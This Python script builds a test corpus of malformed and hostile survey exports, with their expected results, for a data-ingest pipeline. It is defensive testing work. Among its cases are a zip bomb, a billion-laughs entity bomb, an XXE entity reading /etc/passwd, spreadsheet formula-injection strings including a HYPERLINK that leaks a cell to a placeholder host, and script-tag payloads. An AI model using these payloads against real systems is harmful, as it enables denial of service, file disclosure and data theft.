"""(Re)creates the bad-input corpus in this folder, byte for byte the same on every run, and EXPECTED.csv.

    python tests/data/bad/make_bad_corpus.py            # writes the committed files and EXPECTED.csv here
    python tests/data/bad/make_bad_corpus.py --all DIR  # also the large files made at test time, into DIR

Each case is a malformed or hostile survey export. ``expect`` says how ``python -m pipeline ingest FILE`` must
answer it: ``ok`` (exit 0, every row accounted for in ingest_report.json) or ``error`` (exit 2, one line
``error: …`` naming the file). Cases marked ``committed=False`` are large (a 2-MB field) and are made by the
test in a temporary folder instead of being kept in the repository. Randomness is seeded and archive
timestamps fixed, so the same library versions give the same bytes.

The survey content follows the Google Forms CSV layout (one header row, ``Timestamp`` then question texts,
multi-select joined with ", "), see docs/export-layouts.md, in Finnish as most exports are.
"""
from __future__ import annotations

import csv
import gzip
import io
import random
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
SEED = 20240601
ZIP_TIME = (1980, 1, 1, 0, 0, 0)

HEADER = ["Timestamp", "Kunta", "Toimiala", "Henkilöstön määrä",
          "Mistä aiheista yrityksenne haluaisi lisätietoa?",
          "Arvioi osaamisenne: Digitalisaatio", "Arvioi osaamisenne: Vienti",
          "Mitä tukea yrityksenne tarvitsisi?"]
ROWS = [
    ["5/3/2024 9:14:02", "Vaasa", "Valmistus", "6-25", "Digitalisaatio, Vienti",
     "Melko hyvä", "Heikko", "Apua verkkokaupan perustamiseen ja kansainvälistymiseen"],
    ["5/3/2024 9:20:45", "Mustasaari", "Palvelut", "1-5", "Rahoitus",
     "Erinomainen", "En osaa sanoa", "Rahoitusneuvontaa, kiitos."],
    ["5/3/2024 10:01:13", "Närpiö", "Kauppa", "26-100", "Vastuullisuus, Digitalisaatio",
     "Kohtalainen", "Melko hyvä", "Vi behöver hjälp med hållbarhetsrapportering"],
    ["5/4/2024 13:45:00", "Vaasa", "Rakentaminen", "1-5", "",
     "Heikko", "Heikko", ""],
    ["5/4/2024 16:02:31", "Kristiinankaupunki", "Matkailu", "6-25", "Vienti",
     "Melko hyvä", "Kohtalainen", "Export to Sweden and Norway: partners and logistics"],
]


def _csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=newline, quoting=csv.QUOTE_MINIMAL)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def _survey_csv(newline: str = "\n") -> bytes:
    return _csv_text(HEADER, ROWS, newline=newline).encode("utf-8")


# --- xlsx built by hand (so that hostile variants can be made member by member) -----------------------------
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '</Types>')
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Form Responses 1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>')
_SHEET_OPEN = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
_SHEET_CLOSE = '</sheetData></worksheet>'
_EMPTY_SST = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>')


def _col(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        name = chr(65 + rem) + name
    return name


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _sheet_xml(rows: list[list[str]]) -> str:
    out = [_SHEET_OPEN]
    for r, row in enumerate(rows, start=1):
        cells = "".join(f'<c r="{_col(c)}{r}" t="inlineStr"><is><t>{_xml_escape(v)}</t></is></c>'
                        for c, v in enumerate(row) if v != "")
        out.append(f'<row r="{r}">{cells}</row>')
    out.append(_SHEET_CLOSE)
    return "".join(out)


def _zip(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data.encode("utf-8") if isinstance(data, str) else data, compresslevel=9)
    return buf.getvalue()


def _xlsx(rows: list[list[str]], *, sheet: str | None = None, shared: str = _EMPTY_SST) -> bytes:
    return _zip({"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _ROOT_RELS,
                 "xl/workbook.xml": _WORKBOOK, "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
                 "xl/worksheets/sheet1.xml": sheet if sheet is not None else _sheet_xml(rows),
                 "xl/sharedStrings.xml": shared})


def _survey_xlsx() -> bytes:
    return _xlsx([HEADER] + ROWS)


# --- builders: one per case ---------------------------------------------------------------------------------
def empty() -> bytes:
    return b""


def whitespace_only() -> bytes:
    return b"   \n\t\n  \r\n\n     \n"


def bom_only() -> bytes:
    return b"\xef\xbb\xbf"


def header_only() -> bytes:
    return _csv_text(HEADER, []).encode("utf-8")


def binary_junk() -> bytes:
    return random.Random(SEED).randbytes(4096)


def nul_bytes() -> bytes:
    rows = [list(r) for r in ROWS]
    rows[0][7] = "Apua\x00 verkkokauppaan\x00\x00"
    rows[2][1] = "N\x00ärpiö"
    return _csv_text(HEADER, rows).encode("utf-8")


def csv_named_xlsx() -> bytes:
    return _survey_csv()


def xlsx_named_csv() -> bytes:
    return _survey_xlsx()


def truncated_xlsx() -> bytes:
    data = _survey_xlsx()
    return data[: len(data) // 2]


def fake_xlsx_no_workbook() -> bytes:
    return _zip({"readme.txt": "This archive is not a workbook.\n", "data/answers.csv": _survey_csv()})


def xlsx_bomb() -> bytes:
    """A well-formed workbook whose sheet inflates ~1000:1 from under 100 KB to 90 MB: a header row, then 90
    rows each holding a 1-MB cell (long runs of one character are what deflate compresses best)."""
    cell = "a" * (1024 * 1024)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _ROOT_RELS,
                           "xl/workbook.xml": _WORKBOOK, "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
                           "xl/sharedStrings.xml": _EMPTY_SST}.items():
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compresslevel=9)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=ZIP_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        # Streamed row by row so that making the bomb never holds 90 MB in memory.
        with archive.open(info, "w") as member:
            member.write(_sheet_xml([HEADER[:2]])[: -len(_SHEET_CLOSE)].encode())
            for r in range(2, 92):
                member.write(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>5/3/2024 9:00:00</t></is></c>'
                             f'<c r="B{r}" t="inlineStr"><is><t>{cell}</t></is></c></row>'.encode())
            member.write(_SHEET_CLOSE.encode())
    return buf.getvalue()


_LAUGHS = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n <!ENTITY lol "lol">\n'
           + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
                     for i in range(1, 10))
           + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
             'uniqueCount="1"><si><t>&lol9;</t></si></sst>')


def xlsx_entity_bomb() -> bytes:
    """Billion laughs in sharedStrings.xml: 10^9 "lol"s (3 GB) if a parser expands the entities."""
    sheet = (_SHEET_OPEN + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
             '<row r="2"><c r="A2" t="s"><v>0</v></c></row>' + _SHEET_CLOSE)
    return _xlsx([], sheet=sheet, shared=_LAUGHS)


def xlsx_external_entity() -> bytes:
    """An external entity (XXE) that would read /etc/passwd into a cell if a parser resolved it."""
    shared = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
              'uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    sheet = (_SHEET_OPEN + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
             '<row r="2"><c r="A2" t="s"><v>0</v></c></row>' + _SHEET_CLOSE)
    return _xlsx([], sheet=sheet, shared=shared)


def xlsx_header_only() -> bytes:
    return _xlsx([HEADER])


def xlsx_empty_sheet() -> bytes:
    return _xlsx([])


def ole_container_xlsx() -> bytes:
    """An OLE2 compound-file header and junk, as a password-protected .xlsx starts."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + random.Random(SEED + 1).randbytes(2040)


def fake_legacy_xls() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 24 + random.Random(SEED + 2).randbytes(1000)


def unclosed_quote() -> bytes:
    text = _csv_text(HEADER, ROWS[:2])
    text += '5/3/2024 11:00:00,Vaasa,Palvelut,1-5,Vienti,Heikko,Heikko,"Tämä vastaus alkaa lainausmerkillä\n'
    text += _csv_text(HEADER, ROWS[2:]).split("\n", 1)[1]
    return text.encode("utf-8")


def ragged_rows() -> bytes:
    lines = _csv_text(HEADER, ROWS).splitlines()
    lines[1] += ",ylimääräinen,kenttä"        # two fields too many
    lines[3] = ",".join(lines[3].split(",")[:4])  # stops after four fields
    lines[4] += ","                              # one empty field too many
    return ("\n".join(lines) + "\n").encode("utf-8")


def mixed_line_endings() -> bytes:
    lines = _csv_text(HEADER, ROWS).splitlines()
    ends = ["\r\n", "\n", "\r", "\r\n", "\n", "\r\n"]
    return "".join(line + end for line, end in zip(lines, ends)).encode("utf-8")


def utf16_bom() -> bytes:
    return b"\xff\xfe" + _csv_text(HEADER, ROWS, delimiter="\t", newline="\r\n").encode("utf-16-le")


def utf16_no_bom() -> bytes:
    return _csv_text(HEADER, ROWS, delimiter="\t", newline="\r\n").encode("utf-16-le")


def utf16_be_bom() -> bytes:
    return b"\xfe\xff" + _csv_text(HEADER, ROWS, newline="\r\n").encode("utf-16-be")


def cp1252_semicolon() -> bytes:
    header = HEADER[:4] + ["Liikevaihto (€)"] + HEADER[4:]
    rows = [r[:4] + [v] + r[4:] for r, v in zip(ROWS, ["1 250 000,50", "85000", "2,5", "", "–"])]
    rows[0][8] = "Tuotekehitys; myynti ja “markkinointi” – kiitos"
    return _csv_text(header, rows, delimiter=";", newline="\r\n").encode("cp1252")


def field_2mb() -> bytes:
    rows = [list(r) for r in ROWS]
    words = "Tarvitsemme apua digitalisaatiossa ja viennissä. Vi behöver stöd. We need help. "
    rows[1][7] = (words * (2 * 1024 * 1024 // len(words) + 1))[: 2 * 1024 * 1024]
    return _csv_text(HEADER, rows).encode("utf-8")


def _wide(columns: int, seed: int) -> bytes:
    header = ["Timestamp"] + [f"K{i}" for i in range(1, columns)]
    rng = random.Random(seed)
    rows = [[f"5/{d}/2024 9:00:00"] + [rng.choice(["1", "2", "3", ""]) for _ in range(columns - 1)]
            for d in (3, 4, 5)]
    return _csv_text(header, rows).encode("utf-8")


def columns_5000() -> bytes:
    return _wide(5000, SEED + 3)


def columns_1500() -> bytes:
    return _wide(1500, SEED + 5)


def duplicate_headers() -> bytes:
    header = list(HEADER)
    header[2] = "Kunta"
    header[6] = "Arvioi osaamisenne: Digitalisaatio"
    return _csv_text(header, ROWS).encode("utf-8")


def blank_headers() -> bytes:
    header = list(HEADER)
    header[2] = ""
    header[5] = "   "
    # The header line ends with an extra comma: a trailing unnamed column no row fills.
    return _csv_text(header, ROWS).encode("utf-8").replace(b"\n", b",\n", 1)


def unknown_likert_labels() -> bytes:
    rows = [list(r) for r in ROWS]
    rows[0][5] = "Aivan ok"
    rows[1][5] = "🙂"
    rows[2][6] = "7"
    rows[3][6] = "Erinomainen!!"
    return _csv_text(HEADER, rows).encode("utf-8")


def impossible_dates() -> bytes:
    rows = [list(r) for r in ROWS]
    rows[0][0] = "2021-02-30 10:00:00"
    rows[1][0] = "31.4.2021 12:00"
    rows[2][0] = "13/45/2024 25:61:00"
    rows[3][0] = "eilen"
    return _csv_text(HEADER, rows).encode("utf-8")


def csv_injection() -> bytes:
    rows = [list(r) for r in ROWS]
    rows[0][7] = "=cmd|' /C calc'!A0"
    rows[1][7] = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")'
    rows[2][7] = "+SUM(1+1)*cmd|' /C notepad'!A0"
    rows[3][7] = "-2+3+cmd|' /C calc'!A0"
    rows[4][7] = "@SUM(1+1)"
    rows[4][1] = "=1+1"
    return _csv_text(HEADER, rows).encode("utf-8")


def html_in_headers() -> bytes:
    header = list(HEADER)
    header[1] = "<b>Kunta</b>"
    header[4] = '<script>alert("x")</script>Mistä aiheista yrityksenne haluaisi lisätietoa?'
    header[7] = '<img src=x onerror="alert(1)">Mitä tukea yrityksenne tarvitsisi?'
    rows = [list(r) for r in ROWS]
    rows[0][7] = "<iframe src='javascript:alert(1)'></iframe> verkkokauppa"
    return _csv_text(header, rows).encode("utf-8")


def _sav_bytes() -> bytes:
    import tempfile

    import pandas as pd
    import pyreadstat

    frame = pd.DataFrame({"kunta": [1.0, 2.0, 1.0, 3.0], "tyytyv": [4.0, 5.0, 3.0, 4.0],
                          "tarve": ["Rahoitus", "Vienti", "Digitalisaatio", ""]})
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "survey.sav"
        pyreadstat.write_sav(frame, str(path),
                             column_labels=["Kunta", "Kuinka tyytyväinen olette?", "Mitä tukea tarvitsette?"],
                             variable_value_labels={"kunta": {1.0: "Vaasa", 2.0: "Närpiö", 3.0: "Mustasaari"},
                                                    "tyytyv": {1.0: "Erittäin tyytymätön", 5.0: "Erittäin tyytyväinen"}})
        data = bytearray(path.read_bytes())
    # The header's creation date (offset 92, 9 bytes) and time (offset 101, 8 bytes) would change every run.
    data[92:101] = b"01 Jan 24"
    data[101:109] = b"00:00:00"
    return bytes(data)


def truncated_sav() -> bytes:
    data = _sav_bytes()
    return data[: len(data) // 3]


def junk_sav() -> bytes:
    return b"$FL2" + random.Random(SEED + 4).randbytes(1500)


def csv_named_sav() -> bytes:
    return _survey_csv()


def gzip_named_csv() -> bytes:
    return gzip.compress(_survey_csv(), mtime=0)


def html_page_named_csv() -> bytes:
    return ("<!DOCTYPE html>\n<html><head><title>Kirjaudu sisään</title></head>\n<body><form action=\"/login\">"
            "<input name=\"user\"><input type=\"password\" name=\"pw\"></form>\n<p>Istunto on vanhentunut.</p>"
            "</body></html>\n").encode("utf-8")


def blank_data_rows() -> bytes:
    return _csv_text(HEADER, [[""] * len(HEADER)] * 4 + [ROWS[0]] + [[""] * len(HEADER)]).encode("utf-8")


def quoted_newlines() -> bytes:
    rows = [list(r) for r in ROWS]
    rows[0][7] = "Ensimmäinen rivi\nToinen rivi\r\nKolmas, \"lainattu\" rivi"
    rows[2][4] = "Vastuullisuus,\nDigitalisaatio"
    return _csv_text(HEADER, rows).encode("utf-8")


def invalid_utf8_bytes() -> bytes:
    data = _survey_csv()
    return data.replace("Närpiö".encode("utf-8"), "Närpiö".encode("cp1252")).replace(
        b"Rahoitusneuvontaa", b"Rahoitus\xc3neuvontaa\xff")


def invisible_characters() -> bytes:
    header = list(HEADER)
    header[1] = "\u200bKunta\u200d"
    header[7] = "\u202eMitä tukea yrityksenne tarvitsisi?\u202c"
    rows = [list(r) for r in ROWS]
    rows[0][1] = "Vaasa\u00a0"
    rows[1][7] = "\ufeffRahoitus\u2028neuvontaa\u0085kiitos"
    return _csv_text(header, rows).encode("utf-8")


def duplicate_submissions() -> bytes:
    rows = [ROWS[0], ROWS[1], list(ROWS[1]), ROWS[2], ROWS[2], ROWS[2], ROWS[3], ROWS[4]]
    rows[2][0] = "5/3/2024 9:20:51"  # the same answers resubmitted six seconds later
    return _csv_text(HEADER, rows).encode("utf-8")


def no_final_newline() -> bytes:
    return _survey_csv().rstrip(b"\n")


@dataclass(frozen=True)
class Case:
    file: str
    expect: str   # ok | error
    what: str
    build: Callable[[], bytes] | None  # None: a directory, not a file
    committed: bool = True


CASES: tuple[Case, ...] = (
    Case("empty.csv", "error", "zero-byte file", empty),
    Case("whitespace_only.csv", "error", "only spaces, tabs and blank lines", whitespace_only),
    Case("bom_only.csv", "error", "nothing but a UTF-8 byte-order mark", bom_only),
    Case("header_only.csv", "error", "a header row and no data rows: nothing to analyse", header_only),
    Case("binary_junk.csv", "error", "4 KB of random bytes named .csv", binary_junk),
    Case("nul_bytes.csv", "error", "NUL bytes inside answers of an otherwise valid UTF-8 CSV (binary, line 2)",
         nul_bytes),
    Case("csv_named_xlsx.xlsx", "error", "wrong extension: a valid CSV named .xlsx (the message says to rename it)",
         csv_named_xlsx),
    Case("xlsx_named_csv.csv", "error", "wrong extension: a valid workbook named .csv (the message says to rename it)",
         xlsx_named_csv),
    Case("csv_named_sav.sav", "error", "wrong extension: a valid CSV named .sav (no SPSS signature)", csv_named_sav),
    Case("truncated.xlsx", "error", "first half of a valid workbook (zip central directory missing)",
         truncated_xlsx),
    Case("fake_no_workbook.xlsx", "error", "a valid zip archive without xl/workbook.xml", fake_xlsx_no_workbook),
    Case("zip_bomb.xlsx", "error",
         "zip bomb: well-formed workbook whose sheet inflates ~1000:1 to 90 MB (compression-ratio guard)",
         xlsx_bomb),
    Case("entity_bomb.xlsx", "error", "billion-laughs XML entity bomb in xl/sharedStrings.xml", xlsx_entity_bomb),
    Case("external_entity.xlsx", "error", "XXE: sharedStrings.xml declares an entity reading /etc/passwd",
         xlsx_external_entity),
    Case("header_only.xlsx", "error", "workbook with a header row and no data rows", xlsx_header_only),
    Case("empty_sheet.xlsx", "error", "workbook whose only sheet has no cells", xlsx_empty_sheet),
    Case("ole_container.xlsx", "error", "OLE2 compound file named .xlsx (how a password-protected workbook starts)",
         ole_container_xlsx),
    Case("fake_legacy.xls", "error", "an OLE2 header followed by junk, named .xls", fake_legacy_xls),
    Case("unclosed_quote.csv", "error", "row 4 opens a quoted field that never closes", unclosed_quote),
    Case("ragged_rows.csv", "ok", "rows with too many and too few fields (the long ones rejected, with the reason)",
         ragged_rows),
    Case("mixed_line_endings.csv", "ok", "CRLF, LF and bare CR line ends in one file", mixed_line_endings),
    Case("utf16_bom.csv", "ok", "UTF-16 LE with BOM, tab-separated (Excel 'Unicode text')", utf16_bom),
    Case("utf16_no_bom.csv", "ok", "UTF-16 LE without a BOM, tab-separated", utf16_no_bom),
    Case("utf16_be_bom.csv", "ok", "UTF-16 BE with BOM, comma-separated", utf16_be_bom),
    Case("cp1252_semicolon.csv", "ok", "cp1252, ';'-separated, decimal commas, € and curly quotes (Finnish Excel)",
         cp1252_semicolon),
    Case("field_2mb.csv", "ok", "one open answer of 2 MB (made at test time)", field_2mb, committed=False),
    Case("columns_5000.csv", "error", "5,000 columns: over the [ingest] max_columns limit (2,000)", columns_5000),
    Case("columns_1500.csv", "ok", "1,500 columns: wide, under the [ingest] max_columns limit", columns_1500),
    Case("duplicate_headers.csv", "ok", "two columns named Kunta, two named the same Likert statement",
         duplicate_headers),
    Case("blank_headers.csv", "ok", "empty and whitespace-only header cells, and a trailing unnamed column",
         blank_headers),
    Case("unknown_likert_labels.csv", "ok", "Likert answers outside every known scale (Aivan ok, an emoji, 7)",
         unknown_likert_labels),
    Case("impossible_dates.csv", "ok", "timestamps 2021-02-30, 31.4.2021, 13/45/2024 25:61 and 'eilen'",
         impossible_dates),
    Case("csv_injection.csv", "ok", "formula answers (=cmd|…, =HYPERLINK, +, -, @) kept as text", csv_injection),
    Case("html_in_headers.csv", "ok", "HTML and script tags in headers and answers", html_in_headers),
    Case("truncated.sav", "error", "first third of a valid SPSS .sav file", truncated_sav),
    Case("junk.sav", "error", "an SPSS magic number followed by random bytes", junk_sav),
    Case("gzip_named_csv.csv", "error", "a gzip-compressed CSV named .csv", gzip_named_csv),
    Case("html_page.csv", "error", "an HTML login page saved as .csv (an expired export link)", html_page_named_csv),
    Case("blank_data_rows.csv", "ok", "four wholly blank data rows before one real answer and one after",
         blank_data_rows),
    Case("quoted_newlines.csv", "ok", "quoted fields holding LF and CRLF line breaks and doubled quotes",
         quoted_newlines),
    Case("invalid_utf8.csv", "ok", "UTF-8 with stray cp1252 and invalid bytes in two cells", invalid_utf8_bytes),
    Case("invisible_characters.csv", "ok", "zero-width, bidi-override, NBSP, BOM and line-separator characters",
         invisible_characters),
    Case("duplicate_submissions.csv", "ok", "the same answers submitted twice seconds apart, and three times at once",
         duplicate_submissions),
    Case("no_final_newline.csv", "ok", "last row not ended by a newline", no_final_newline),
    Case("directory.csv", "error", "a directory, not a file", None),
)


def write_case(case: Case, folder: Path) -> Path:
    """Writes one case into ``folder``; returns its path."""
    path = folder / case.file
    if case.build is None:
        path.mkdir(parents=True, exist_ok=True)
        (path / "README.txt").write_text("A directory named like a survey export: ingest must refuse it.\n")
        return path
    data = case.build()
    if path.is_dir():
        shutil.rmtree(path)
    path.write_bytes(data)
    return path


def write_expected(folder: Path) -> Path:
    """Writes EXPECTED.csv (file, expect, what) listing every case; returns its path."""
    path = folder / "EXPECTED.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["file", "expect", "what"])
        for case in CASES:
            writer.writerow([case.file, case.expect, case.what])
    return path


def main(argv: list[str]) -> int:
    if argv[:1] == ["--all"] and len(argv) == 2:
        folder, cases = Path(argv[1]), CASES
    elif not argv:
        folder, cases = HERE, tuple(c for c in CASES if c.committed)
    else:
        print(__doc__, file=sys.stderr)
        return 2
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        write_case(case, folder)
    write_expected(folder)
    print(f"{len(cases)} files and EXPECTED.csv written to {folder}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
